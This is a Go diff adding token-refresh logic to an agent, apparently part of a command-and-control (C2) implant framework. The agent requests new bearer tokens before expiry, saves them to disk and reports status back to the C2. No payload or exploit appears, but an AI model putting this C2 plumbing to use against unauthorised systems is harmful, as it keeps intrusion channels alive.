@@ -0,0 +1,157 @@
+package core
+
+import (
+	"fmt"
+	"log"
+	"strings"
+	"time"
+)
+
+// ============================================================================
+// TOKEN REFRESH - Short-lived bearer tokens
+// ============================================================================
+
+// tokenRetryInterval is how often an unanswered refresh request is repeated
+const tokenRetryInterval = time.Minute
+
+// parseTokenExpiry reads the embedded expiry; an empty or unrendered value
+// means the token does not expire
+func parseTokenExpiry(raw string) (time.Time, error) {
+	raw = strings.TrimSpace(raw)
+	if raw == "" || strings.HasPrefix(raw, "{{") {
+		return time.Time{}, nil
+	}
+	expiry, err := time.Parse(time.RFC3339, raw)
+	if err != nil {
+		return time.Time{}, fmt.Errorf("invalid token expiry %q: %v", raw, err)
+	}
+	return expiry, nil
+}
+
+// bearerToken returns the token presented when connecting
+func (a *NOPAgent) bearerToken() string {
+	a.tokenMutex.Lock()
+	defer a.tokenMutex.Unlock()
+	return a.authToken
+}
+
+// tokenState returns the current token and its expiry, zero if it has none
+func (a *NOPAgent) tokenState() (string, time.Time) {
+	a.tokenMutex.Lock()
+	defer a.tokenMutex.Unlock()
+	return a.authToken, a.tokenExpiry
+}
+
+func (a *NOPAgent) setToken(token string, expiry time.Time) {
+	a.tokenMutex.Lock()
+	a.authToken, a.tokenExpiry = token, expiry
+	a.tokenMutex.Unlock()
+}
+
+// formatExpiry renders an expiry for persistence and reports; zero is empty
+func formatExpiry(expiry time.Time) string {
+	if expiry.IsZero() {
+		return ""
+	}
+	return expiry.UTC().Format(time.RFC3339)
+}
+
+// refreshLead is how long before expiry a refresh is requested:
+// "token_refresh_before" seconds from the config, default 5 minutes
+func (a *NOPAgent) refreshLead() time.Duration {
+	return a.timeout("token_refresh_before", 5*time.Minute)
+}
+
+// TokenRefresher asks the C2 for a new token once the current one is within
+// refreshLead of its expiry, repeating the request until a token_refresh
+// arrives. Tokens without an expiry are never refreshed proactively.
+func (a *NOPAgent) TokenRefresher() {
+	warned := false
+	for a.running {
+		_, expiry := a.tokenState()
+		if expiry.IsZero() {
+			time.Sleep(tokenRetryInterval)
+			continue
+		}
+
+		if wait := time.Until(expiry.Add(-a.refreshLead())); wait > 0 {
+			if wait > tokenRetryInterval {
+				wait = tokenRetryInterval
+			}
+			time.Sleep(wait)
+			continue
+		}
+
+		if time.Now().After(expiry) && !warned {
+			log.Printf("[%s] Auth token expired at %s; reconnects will be refused until it is refreshed",
+				time.Now().Format(time.RFC3339), formatExpiry(expiry))
+			warned = true
+		}
+		err := a.writeJSON(map[string]interface{}{
+			"type":       "token_refresh_request",
+			"agent_id":   a.agentID,
+			"expires_at": formatExpiry(expiry),
+			"timestamp":  time.Now().UTC().Format(time.RFC3339),
+		})
+		if err == nil {
+			log.Printf("[%s] Requested auth token refresh (expires %s)", time.Now().Format(time.RFC3339), formatExpiry(expiry))
+		}
+		time.Sleep(tokenRetryInterval)
+		if _, current := a.tokenState(); !current.Equal(expiry) {
+			warned = false
+		}
+	}
+}
+
+// handleTokenRefresh adopts a new bearer token from the C2. The current
+// connection is kept; the token is persisted and presented on reconnect.
+// The expiry is "expires_at" (RFC3339) or "expires_in" (seconds); without
+// either the new token does not expire.
+func (a *NOPAgent) handleTokenRefresh(msg map[string]interface{}) {
+	token, _ := msg["auth_token"].(string)
+	if token == "" {
+		a.sendError("token_refresh", msg, newAgentError(ErrInvalidRequest, "missing_auth_token", "auth_token is required"))
+		return
+	}
+
+	var expiry time.Time
+	if raw, ok := msg["expires_at"].(string); ok && raw != "" {
+		parsed, err := time.Parse(time.RFC3339, raw)
+		if err != nil {
+			a.sendError("token_refresh", msg, newAgentError(ErrInvalidRequest, "invalid_expiry", "expires_at is not RFC3339: %v", err))
+			return
+		}
+		expiry = parsed
+	} else if seconds, ok := msg["expires_in"].(float64); ok && seconds > 0 {
+		expiry = time.Now().Add(time.Duration(seconds * float64(time.Second)))
+	}
+	if !expiry.IsZero() && time.Now().After(expiry) {
+		a.sendError("token_refresh", msg, newAgentError(ErrInvalidRequest, "token_expired", "refreshed token already expired at %s", formatExpiry(expiry)))
+		return
+	}
+
+	a.setToken(token, expiry)
+	err := a.saveIdentity(agentIdentity{
+		AgentID:     a.agentID,
+		ParentID:    a.identity.AgentID,
+		AuthToken:   token,
+		TokenExpiry: formatExpiry(expiry),
+		Fingerprint: a.fingerprint,
+	})
+	if err != nil {
+		log.Printf("[%s] Could not persist refreshed token: %v", time.Now().Format(time.RFC3339), err)
+	}
+
+	if expiry.IsZero() {
+		log.Printf("[%s] Auth token refreshed (no expiry)", time.Now().Format(time.RFC3339))
+	} else {
+		log.Printf("[%s] Auth token refreshed (expires %s)", time.Now().Format(time.RFC3339), formatExpiry(expiry))
+	}
+	a.relayToC2(map[string]interface{}{
+		"type":       "token_refreshed",
+		"agent_id":   a.agentID,
+		"expires_at": formatExpiry(expiry),
+		"persisted":  err == nil,
+		"timestamp":  time.Now().UTC().Format(time.RFC3339),
+	})
+}